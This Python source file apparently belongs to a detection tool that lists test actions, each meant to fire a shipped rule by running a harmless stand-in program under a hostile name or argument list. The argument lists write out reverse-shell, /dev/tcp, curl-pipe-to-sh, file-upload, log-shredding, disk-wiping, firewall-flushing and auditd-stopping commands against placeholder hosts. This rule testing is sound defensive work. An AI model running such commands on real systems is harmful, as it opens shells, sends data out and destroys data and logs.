"""The actions that ``lanner events generate`` offers, each with the shipped rule that it makes fire."""

import os
from collections.abc import Callable, Iterator
from pathlib import Path

from lanner import generator as act
from lanner.generator import Action


def _table() -> Iterator[Action]:
    def on(name: str, rule: str, does: str, act: Callable[[Path], None]) -> Action:
        return Action(name, rule, does, act)

    def inside(name: str, rule: str, does: str, act: Callable[[Path], None]) -> Action:
        return Action(name, rule, f"{does}, in a control group named as a container's", act, in_container=True)

    started = "starts a copy of /bin/true called"
    yield on(
        "web-shell",
        "Web server starts a shell",
        f"{started} sh from one of /bin/sh called nginx",
        act.under("nginx", "sh", "-c", "id"),
    )
    yield on(
        "web-tool",
        "Web server starts a tool to look around or to fetch",
        f"{started} whoami from one called apache2",
        act.under("apache2", "whoami"),
    )
    yield on(
        "database-program",
        "Database server starts a program",
        f"{started} sh from one called postgres",
        act.under("postgres", "sh", "-c", "id"),
    )
    yield on(
        "reverse-shell",
        "Standard streams of a program lead to a network connection",
        "puts standard input onto a connection to itself",
        act.reverse,
    )
    yield on(
        "netcat",
        "Network tool used as a remote shell",
        f"{started} nc with the arguments of a remote shell",
        act.named("nc", "-e", "/bin/sh", "192.0.2.1", "4444"),
    )
    yield on(
        "dev-tcp",
        "Shell opens a connection by itself",
        f"{started} sh with /dev/tcp in its command",
        act.shell_line("exec 3<>/dev/tcp/192.0.2.1/4444"),
    )
    yield on(
        "one-liner",
        "Interpreter told to connect and run a shell",
        f"{started} python3 with such a command",
        act.named("python3", "-c", "import socket,pty; pty.spawn('/bin/sh')"),
    )
    yield on(
        "terminal-upgrade",
        "Shell upgraded to a full terminal",
        f"{started} python3 with such a command",
        act.named("python3", "-c", "import pty; pty.spawn('sh')"),
    )
    yield on("fileless", "Program run from memory", "runs a copy of /bin/true from memory", act.fileless)
    yield on(
        "temporary-program",
        "Program run from a folder for temporary files",
        f"{started} program in a temporary folder",
        act.named("program"),
    )
    yield on("hidden-program", "Program with a hidden name is run", f"{started} .program", act.named(".program"))
    yield on(
        "encoded",
        "Encoded text decoded and run",
        f"{started} sh with such a command",
        act.shell_line("echo dHJ1ZQ== | base64 -d | sh"),
    )
    yield on(
        "piped-download",
        "Download piped into a shell",
        f"{started} sh with such a command",
        act.shell_line("curl http://192.0.2.1/x | sh"),
    )
    yield on(
        "shadow", "Password file read by an unusual program", "reads /etc/shadow with cat", act.read("/etc/shadow")
    )
    yield on(
        "private-key",
        "Private key of SSH read by an unusual program",
        "makes a file called id_rsa and reads it with cat",
        act.read_made("/home/lanner-generated/.ssh/id_rsa"),
    )
    yield on(
        "cloud-keys",
        "Credentials of a cloud or cluster read by a tool",
        "makes a file .aws/credentials and reads it with cat",
        act.read_made("/home/lanner-generated/.aws/credentials"),
    )
    yield on(
        "search-keys",
        "Search for credentials in files",
        f"{started} find that looks for id_rsa",
        act.named("find", "/", "-name", "id_rsa"),
    )
    yield on(
        "process-memory", "Memory of another process opened", "opens the memory of its own child", act.opened_memory
    )
    yield on(
        "process-environment",
        "Environment of another process read by a tool",
        "reads the environment of this process with cat",
        lambda _f: act.call(["cat", f"/proc/{os.getpid()}/environ"]),
    )
    yield on(
        "ptrace",
        "Process attached to another one and took control",
        "attaches to its own child and lets it go",
        act.attached,
    )
    yield on(
        "write-memory", "Memory of another process written", "writes into its own child what is there", act.wrote_memory
    )
    yield on("credential-tool", "Tool that collects credentials run", f"{started} linpeas.sh", act.named("linpeas.sh"))
    yield on(
        "metadata",
        "Metadata service of the machine called",
        "begins a connection to 169.254.169.254 and drops it",
        act.metadata,
    )
    yield on(
        "cron",
        "Scheduled job changed",
        "writes a comment into a new file in /etc/cron.d",
        act.written("/etc/cron.d/lanner-generated"),
    )
    yield on(
        "at",
        "Job for later set with at",
        "writes a comment into a new file in the spool of at",
        act.written("/var/spool/cron/atjobs/lanner-generated"),
    )
    yield on(
        "systemd-unit",
        "Unit of systemd written",
        "writes a comment into a new unit",
        act.written("/etc/systemd/system/lanner-generated.service"),
    )
    yield on(
        "start-up-script",
        "Start-up script of the machine written",
        "writes a comment into a new file in /etc/init.d",
        act.written("/etc/init.d/lanner-generated"),
    )
    yield on(
        "profile",
        "Start-up file of a shell changed for everybody",
        "writes a comment into a new file in /etc/profile.d",
        act.written("/etc/profile.d/lanner-generated.sh"),
    )
    yield on(
        "bashrc",
        "Start-up file of a user's shell changed by a program",
        "writes a file called .bashrc in a folder of its own",
        act.in_folder(".bashrc"),
    )
    yield on(
        "authorized-keys",
        "Keys that may log in changed",
        "writes a file called authorized_keys in a folder of its own",
        act.in_folder("authorized_keys"),
    )
    yield on(
        "pam",
        "How people log in is changed",
        "writes a comment into a new file in /etc/pam.d",
        act.written("/etc/pam.d/lanner-generated"),
    )
    yield on(
        "new-account",
        "Account made or given more rights",
        f"{started} useradd",
        act.named("useradd", "lanner-generated"),
    )
    yield on(
        "sudo-rule",
        "Accounts or sudo rules written by an unusual program",
        "writes a comment into a new file in /etc/sudoers.d",
        act.written("/etc/sudoers.d/lanner-generated"),
    )
    yield on(
        "linker",
        "Library forced into every program",
        "writes a comment into a new file in /etc/ld.so.conf.d",
        act.written("/etc/ld.so.conf.d/lanner-generated.conf"),
    )
    yield on(
        "preload",
        "Program started with a library from a writable folder",
        f"{started} program with LD_LIBRARY_PATH=/tmp/none",
        act.named("program", env={"LD_LIBRARY_PATH": "/tmp/none"}),  # noqa: S108 - nothing is there
    )
    yield on(
        "udev-rule",
        "Hook of devices, packages or desktops written",
        "writes a comment into a new file in /etc/udev/rules.d",
        act.written("/etc/udev/rules.d/99-lanner-generated.rules"),
    )
    yield on(
        "web-page",
        "Web server writes a script into its own pages",
        "has a shell called nginx write a comment into a new .php file",
        act.written("/opt/lanner-generated/x.php", by="nginx"),
    )
    yield on("owner-bit", "File made to run as its owner", "sets the bit on a text file of its own", act.set_owner_bit)
    yield on(
        "capability",
        "Program given a capability of root",
        f"{started} setcap",
        act.named("setcap", "cap_setuid+ep", "program"),
    )
    yield on(
        "sudo-trick", "Known trick against sudo or pkexec", f"{started} pkexec without arguments", act.named("pkexec")
    )
    yield on(
        "insmod",
        "Kernel module loaded from an odd place or by hand",
        f"{started} insmod",
        act.named("insmod", "./x.ko"),
    )
    yield on(
        "wipe-log",
        "Tool that wipes logs or the journal run",
        f"{started} shred",
        act.named("shred", "-u", "/var/log/auth.log"),
    )
    yield on(
        "history",
        "History of a shell removed or switched off",
        "makes and removes a file called .bash_history in a folder of its own",
        act.history,
    )
    yield on("forged-time", "Time of a file forged", f"{started} touch", act.named("touch", "-r", "/bin/ls", "/etc/x"))
    yield on(
        "firewall-off", "Protection of the machine switched off", f"{started} iptables", act.named("iptables", "-F")
    )
    yield on(
        "stop-watcher",
        "Watcher of the machine stopped",
        f"{started} systemctl",
        act.named("systemctl", "stop", "auditd"),
    )
    yield on(
        "immutable",
        "File made impossible to change or to see through",
        f"{started} chattr",
        act.named("chattr", "+i", "x"),
    )
    yield on(
        "disguise",
        "Program disguised as a thread of the kernel",
        "starts a copy of /bin/true under the name [kworker/0:0]",
        lambda f: act.call(["[kworker/0:0]"], executable=act.copy(f, "x")),
    )
    yield on("scanner", "Scanner of networks run", f"{started} nmap", act.named("nmap", "192.0.2.0/24"))
    yield on(
        "tunnel", "Tool for tunnels run", f"{started} chisel", act.named("chisel", "client", "192.0.2.1", "R:socks")
    )
    yield on(
        "upload",
        "Files sent out with a tool for downloads",
        f"{started} curl",
        act.named("curl", "-F", "file=@/etc/hostname", "http://192.0.2.1/"),
    )
    yield on(
        "miner", "Miner of a currency run", f"{started} xmrig", act.named("xmrig", "-o", "stratum+tcp://192.0.2.1:3333")
    )
    yield on(
        "overwrite-disk",
        "Disk overwritten or formatted",
        f"{started} dd",
        act.named("dd", "if=/dev/zero", "of=/dev/sdz"),
    )
    yield on(
        "remove-all", "Everything removed from a folder of the system", f"{started} rm", act.named("rm", "-rf", "/var")
    )
    yield on(
        "blackmail",
        "Note of a blackmailer written",
        "writes a file called HOW_TO_DECRYPT.txt in a folder of its own",
        act.in_folder("HOW_TO_DECRYPT.txt"),
    )
    yield on("no-backup", "Backups or ways back removed", f"{started} zfs", act.named("zfs", "destroy", "tank/x@y"))
    yield inside("container-terminal", "Terminal opened in a container", f"{started} sh with a terminal", act.terminal)
    yield inside(
        "container-package",
        "Package installed in a running container",
        f"{started} apk",
        act.named("apk", "add", "curl"),
    )
    yield inside(
        "container-kubectl",
        "Tool for containers or clusters run in a container",
        f"{started} kubectl",
        act.named("kubectl", "get", "pods"),
    )
    yield inside(
        "container-nsenter",
        "Container enters the namespaces of another process",
        f"{started} nsenter",
        act.named("nsenter", "-t", "1"),
    )
    yield inside(
        "container-traffic", "Traffic recorded in a container", f"{started} tcpdump", act.named("tcpdump", "-i", "any")
    )
    yield inside(
        "container-copy",
        "Tool that copies to other machines run in a container",
        f"{started} rclone",
        act.named("rclone", "copy", "x", "y:z"),
    )
    yield inside(
        "container-release-agent",
        "Container writes where the host takes a program to run",
        "writes a file called release_agent in a folder of its own",
        act.in_folder("release_agent", by="writer"),
    )


ACTIONS = {action.name: action for action in _table()}
"""All actions by name."""
